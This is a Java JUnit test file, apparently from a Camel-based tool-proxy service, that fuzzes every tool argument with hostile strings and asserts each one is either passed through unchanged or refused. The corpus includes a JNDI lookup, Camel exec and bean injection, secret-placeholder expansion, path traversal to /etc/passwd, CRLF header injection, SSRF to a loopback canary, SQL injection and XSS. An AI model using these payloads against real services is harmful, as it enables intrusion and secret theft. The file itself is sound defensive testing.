package io.serai.provider;

import static io.serai.ProblemAssert.assertThatProblem;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;
import io.serai.FaultRuns;
import io.serai.RecordingProvider;
import io.serai.RecordingProvider.Received;
import io.serai.RecordingProvider.Response;
import io.serai.Reply;
import io.serai.SeraiTester;
import io.serai.TenantClient;
import io.serai.provider.ShippedRoutes.ToolRequest;
import io.serai.tool.Catalogue;
import io.serai.tool.Tool;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.URLDecoder;
import java.net.URLEncoder;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Queue;
import java.util.TreeMap;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * Hostile texts in every argument of every shipped tool. Whatever a caller writes reaches the provider as exactly this
 * text, in the place where it belongs, or the call is refused.
 */
class ArgumentAttackTest {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Pattern PLACEHOLDER = Pattern.compile("/?\\{(\\+?)(\\w+)}");
    private static final int WORKERS = 6;

    /** In the build every other text goes into a place, the one half into one place and the other into the next. */
    private static final int STEP = FaultRuns.count(2, 1);

    private static RecordingProvider vendor;
    private static ServerSocket canary;
    private static final AtomicInteger CANARY_HITS = new AtomicInteger();
    private static final Map<String, Queue<Received>> BY_TOKEN = new ConcurrentHashMap<>();
    private static SeraiTester serai;
    private static List<ToolRequest> requests;

    @BeforeAll
    static void start() throws IOException {
        vendor = new RecordingProvider();
        vendor.answer(false, request -> {
            BY_TOKEN.computeIfAbsent(request.header("Authorization"), token -> new ConcurrentLinkedQueue<>())
                    .add(request);
            return new Response(200, "{\"ok\":true}");
        });
        canary = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
        Thread.ofVirtual().start(ArgumentAttackTest::countCanaryHits);
        serai = SeraiTester.start(vendor.environment("github", "gitlab", "notion", "slack"));
        requests = ShippedRoutes.all();
    }

    private static void countCanaryHits() {
        try {
            while (true) {
                canary.accept().close();
                CANARY_HITS.incrementAndGet();
            }
        } catch (IOException closed) {
            // The test is over.
        }
    }

    @AfterAll
    static void stop() throws IOException {
        serai.close();
        vendor.close();
        canary.close();
    }

    private static List<String> corpus() {
        int port = canary.getLocalPort();
        return List.of(
                "abc?proxyHost=127.0.0.1&proxyPort=" + port,
                "a&proxyHost=127.0.0.1&proxyPort=" + port + "#x",
                "abc?headerFilterStrategy=#class:io.serai.provider.ClassTrap",
                "#class:io.serai.provider.ClassTrap",
                "#bean:dataSource",
                "bean:dataSource?method=getConnection",
                "direct:call",
                "provider:github?path=/admin",
                "file:/tmp?fileName=steal",
                "exec:touch?args=/tmp/steal",
                "http://127.0.0.1:" + port + "?bridgeEndpoint=true",
                "#valueAs(io.serai.provider.ClassTrap):x",
                "#type:javax.sql.DataSource",
                "RAW(abc)",
                "RAW({{env:HOME}})",
                "RAW{abc}",
                "{{sys:user.home}}",
                "{{env:HOME}}",
                "{{env:PATH}}/{{sys:java.home}}",
                "{{?serai.secret.master-key}}",
                "{{bean:dataSource}}",
                "{{hashicorp:secret:a#b}}",
                "\\{{env:HOME\\}}",
                "${jndi:ldap://127.0.0.1:" + port + "/a}",
                "${header.Authorization}",
                "${exchangeProperty.serai.call}",
                "$ENV.HOME",
                "$[?(@.token)]",
                "${env:HOME}",
                "${sys.user.home}",
                "$simple{env:HOME}",
                "${bean:dataSource}",
                "${java:os}",
                "..",
                ".",
                "../../admin/secrets",
                "a/../../b",
                "a//b",
                "/etc/passwd",
                "..%2f..%2fadmin",
                "%2e%2e",
                "%2e%2e%2fadmin",
                "%00",
                "a%0d%0aX-Evil: 1",
                "a\r\nX-Evil: 1\r\n\r\nGET /evil HTTP/1.1",
                "a\nb\tc\u0000d",
                "x@127.0.0.1:" + port,
                "@127.0.0.1:" + port + "/steal",
                "http://127.0.0.1:" + port + "/steal",
                "//127.0.0.1:" + port + "/steal",
                "..\\..\\admin",
                "a;b=c",
                "a=b&c=d",
                "a+b c",
                "\uff0e\uff0e\u2215\uff0e\uff0e",
                "\u202etxt.exe",
                "\u00e9\u4e2d\ud83d\ude00",
                "'; drop table tenants; --",
                "<script>alert(1)</script>",
                "",
                "~*'()!");
    }

    @Test
    void everyHostileTextArrivesAsItIsOrIsRefused() throws InterruptedException {
        // Given
        assertThat(requests).hasSizeGreaterThanOrEqualTo(91);
        Queue<String> faults = new ConcurrentLinkedQueue<>();
        AtomicInteger calls = new AtomicInteger();
        AtomicInteger arrived = new AtomicInteger();
        Queue<ToolRequest> waiting = new ConcurrentLinkedQueue<>(requests);

        // When
        try (ExecutorService workers = Executors.newFixedThreadPool(WORKERS)) {
            for (int i = 0; i < WORKERS; i++) {
                TenantClient tenant = connected("attacker-" + i);
                workers.execute(() -> {
                    for (ToolRequest next = waiting.poll(); next != null; next = waiting.poll()) {
                        attack(tenant, next, faults, calls, arrived);
                    }
                });
            }
        }

        // Then
        assertThat(faults).isEmpty();
        assertThat(calls).hasValueGreaterThan(8_000 / STEP);
        assertThat(arrived).hasValueGreaterThan(4_000 / STEP);
        assertThat(CANARY_HITS).hasValue(0);
        assertThat(System.getProperty("serai.test.trap")).isNull();
        FaultRuns.report(
                "texts that Camel would act on, in every argument",
                calls + " calls",
                "all arrive as they are or are refused",
                arrived + " arrived, the others refused",
                true);
    }

    private static TenantClient connected(String id) {
        TenantClient tenant = serai.newTenant(id);
        List.of("github", "gitlab", "notion", "slack").forEach(provider -> tenant.connect(provider, "token-" + id));
        return tenant;
    }

    private static void attack(
            TenantClient tenant,
            ToolRequest request,
            Queue<String> faults,
            AtomicInteger calls,
            AtomicInteger arrived) {
        Tool tool = Objects.requireNonNull(serai.bean(Catalogue.class).find(request.toolId()));
        ObjectNode harmless = tool.spec().examples().getFirst().arguments();
        List<List<String>> places = places(tool, harmless);
        List<String> corpus = corpus();
        for (int p = 0; p < places.size(); p++) {
            List<String> place = places.get(p);
            for (int t = p % STEP; t < corpus.size(); t += STEP) {
                String text = corpus.get(t);
                ObjectNode arguments = harmless.deepCopy();
                put(arguments, place, text);
                try {
                    if (check(tenant, request, arguments)) {
                        arrived.incrementAndGet();
                    }
                } catch (AssertionError fault) {
                    faults.add(request.toolId() + " " + place + " = " + text + ": " + fault.getMessage());
                }
                calls.incrementAndGet();
            }
        }
    }

    /** Whether the call was let through; then exactly the right request has arrived. */
    private static boolean check(TenantClient tenant, ToolRequest request, ObjectNode arguments) {
        Queue<Received> received =
                BY_TOKEN.computeIfAbsent("Bearer token-" + tenant.id(), token -> new ConcurrentLinkedQueue<>());
        received.clear();
        Reply reply = tenant.invoke(request.toolId(), JSON.convertValue(arguments, Map.class));
        if (reply.status() == 400) {
            assertThatProblem(reply).is(400, "VALIDATION_ERROR");
            assertThat(received).isEmpty();
            return false;
        }
        assertThat(reply.status()).as(reply.toString()).isEqualTo(200);
        assertThat(received).hasSize(1);
        Received arrived = received.remove();
        assertThat(arrived.method()).isEqualTo(request.method());
        assertThat(arrived.path()).isEqualTo(expectedPath(request, arguments));
        assertThat(pairs(arrived.query())).isEqualTo(expectedQuery(request, arguments));
        assertThatTheBodyHoldsTheRest(request, arguments, arrived);
        assertThat(arrived.headers()).noneMatch(header -> header.getKey().equalsIgnoreCase("X-Evil"));
        return true;
    }

    private static String expectedPath(ToolRequest request, ObjectNode arguments) {
        Matcher matcher = PLACEHOLDER.matcher(request.path());
        StringBuilder path = new StringBuilder();
        while (matcher.find()) {
            String value = arguments.path(matcher.group(2)).asText("");
            boolean slash = matcher.group().startsWith("/");
            String encoded = matcher.group(1).isEmpty()
                    ? encoded(value)
                    : Stream.of(value.split("/", -1))
                            .map(ArgumentAttackTest::encoded)
                            .collect(Collectors.joining("/"));
            boolean dropped = value.isEmpty() && !matcher.group(1).isEmpty();
            matcher.appendReplacement(path, Matcher.quoteReplacement(dropped ? "" : (slash ? "/" : "") + encoded));
        }
        return matcher.appendTail(path).toString();
    }

    private static String encoded(String segment) {
        return URLEncoder.encode(segment, UTF_8)
                .replace("+", "%20")
                .replace("*", "%2A")
                .replace("%7E", "~");
    }

    private static boolean isInPath(ToolRequest request, String name) {
        return request.path().contains("{" + name + "}") || request.path().contains("{+" + name + "}");
    }

    private static boolean isSent(ToolRequest request, String name) {
        return !isInPath(request, name) && !(request.base64() != null && name.equals("encoding"));
    }

    private static Map<String, List<String>> expectedQuery(ToolRequest request, ObjectNode arguments) {
        Map<String, List<String>> query = new TreeMap<>();
        arguments.properties().forEach(argument -> {
            boolean inQuery = request.query().contains(argument.getKey()) || !request.sendInBody();
            if (inQuery && isSent(request, argument.getKey())) {
                query.put(argument.getKey(), texts(argument.getValue()));
            }
        });
        return query;
    }

    private static void assertThatTheBodyHoldsTheRest(ToolRequest request, ObjectNode arguments, Received arrived) {
        if (!request.sendInBody()) {
            assertThat(arrived.body()).isEmpty();
            return;
        }
        ObjectNode rest = arguments.deepCopy();
        List<String> names = new ArrayList<>();
        rest.fieldNames().forEachRemaining(names::add);
        names.stream()
                .filter(name -> request.query().contains(name) || !isSent(request, name))
                .forEach(rest::remove);
        String base64 = request.base64();
        if (base64 != null && !arguments.path("encoding").asText().equals("base64")) {
            rest.put(
                    base64,
                    Base64.getEncoder().encodeToString(rest.get(base64).asText().getBytes(UTF_8)));
        }
        if (request.form()) {
            Map<String, List<String>> form = new TreeMap<>();
            rest.properties()
                    .forEach(member -> form.put(
                            member.getKey(),
                            List.of(
                                    member.getValue().isValueNode()
                                            ? member.getValue().asText()
                                            : member.getValue().toString())));
            assertThat(pairs(arrived.body())).isEqualTo(form);
        } else {
            assertThat(tree(arrived.body())).isEqualTo(rest);
        }
    }

    private static List<String> texts(JsonNode value) {
        List<String> texts = new ArrayList<>();
        if (value.isArray()) {
            value.forEach(element -> texts.add(element.isValueNode() ? element.asText() : element.toString()));
        } else {
            texts.add(value.isValueNode() ? value.asText() : value.toString());
        }
        return texts;
    }

    private static JsonNode tree(String body) {
        try {
            return JSON.readTree(body);
        } catch (JsonProcessingException notJson) {
            throw new AssertionError(body, notJson);
        }
    }

    private static Map<String, List<String>> pairs(String encoded) {
        Map<String, List<String>> pairs = new TreeMap<>();
        for (String pair : encoded.isEmpty() ? new String[0] : encoded.split("&", -1)) {
            int equals = pair.indexOf('=');
            assertThat(equals).as(encoded).isPositive();
            pairs.computeIfAbsent(decoded(pair.substring(0, equals)), name -> new ArrayList<>())
                    .add(decoded(pair.substring(equals + 1)));
        }
        return pairs;
    }

    private static String decoded(String text) {
        return URLDecoder.decode(text.replace("+", "%2B"), UTF_8);
    }

    /** Every place of the arguments where a text stands, or could by the schema. */
    private static List<List<String>> places(Tool tool, ObjectNode arguments) {
        List<List<String>> places = new ArrayList<>();
        collect(arguments, List.of(), places);
        tool.spec().inputSchema().path("properties").properties().forEach(property -> {
            if (property.getValue().path("type").asText().equals("string") && !arguments.has(property.getKey())) {
                places.add(List.of(property.getKey()));
            }
        });
        return places;
    }

    private static void collect(JsonNode value, List<String> path, List<List<String>> places) {
        if (value.isTextual()) {
            places.add(path);
        } else if (value.isArray()) {
            for (int i = 0; i < value.size(); i++) {
                collect(value.get(i), plus(path, Integer.toString(i)), places);
            }
        } else {
            value.properties().forEach(member -> collect(member.getValue(), plus(path, member.getKey()), places));
        }
    }

    private static List<String> plus(List<String> path, String part) {
        return Stream.concat(path.stream(), Stream.of(part)).toList();
    }

    private static void put(ObjectNode arguments, List<String> place, String text) {
        JsonNode parent = arguments;
        for (String part : place.subList(0, place.size() - 1)) {
            parent = child(parent, part);
        }
        if (parent instanceof ArrayNode list) {
            list.set(Integer.parseInt(place.getLast()), TextNode.valueOf(text));
        } else {
            ((ObjectNode) Objects.requireNonNull(parent)).put(place.getLast(), text);
        }
    }

    private static @Nullable JsonNode child(@Nullable JsonNode parent, String part) {
        return parent instanceof ArrayNode list
                ? list.get(Integer.parseInt(part))
                : Objects.requireNonNull(parent).get(part);
    }

    @Test
    void aVeryLongTextIsSentOrRefusedAndNeverOurFault() {
        // Given: long enough for a careless regular expression to overflow the stack.
        TenantClient tenant = connected("long-winded");
        List<String> longTexts = List.of(
                "x".repeat(200_000),
                "im" + ",im".repeat(60_000),
                "a" + "/a".repeat(60_000),
                "\ud83d\ude00".repeat(50_000));
        List<String> faults = new ArrayList<>();
        int overflows = 0;
        for (ToolRequest request : requests) {
            Tool tool = Objects.requireNonNull(serai.bean(Catalogue.class).find(request.toolId()));
            ObjectNode harmless = tool.spec().examples().getFirst().arguments();
            for (String name : topLevelTexts(tool)) {
                for (String text : longTexts) {
                    // When
                    ObjectNode arguments = harmless.deepCopy().put(name, text);
                    Reply reply = tenant.invoke(request.toolId(), JSON.convertValue(arguments, Map.class));
                    if (reply.json().path("detail").asText().contains("too long to be checked")) {
                        overflows++;
                    }

                    // Then: a request line of this length is the provider's to refuse.
                    if (reply.status() >= 500
                            && !reply.json().path("code").asText().startsWith("PROVIDER_")) {
                        faults.add(request.toolId() + "." + name + " " + text.substring(0, 6) + " " + reply.json());
                    }
                }
            }
        }
        assertThat(faults).isEmpty();
        assertThat(overflows).isPositive();
    }

    /** Texts that a regular expression checks, and the freest ones. */
    private static List<String> topLevelTexts(Tool tool) {
        List<String> names = new ArrayList<>();
        tool.spec().inputSchema().path("properties").properties().forEach(property -> {
            JsonNode schema = property.getValue();
            if (schema.has("pattern") || List.of("q", "query", "text").contains(property.getKey())) {
                names.add(property.getKey());
            }
        });
        return names;
    }
}
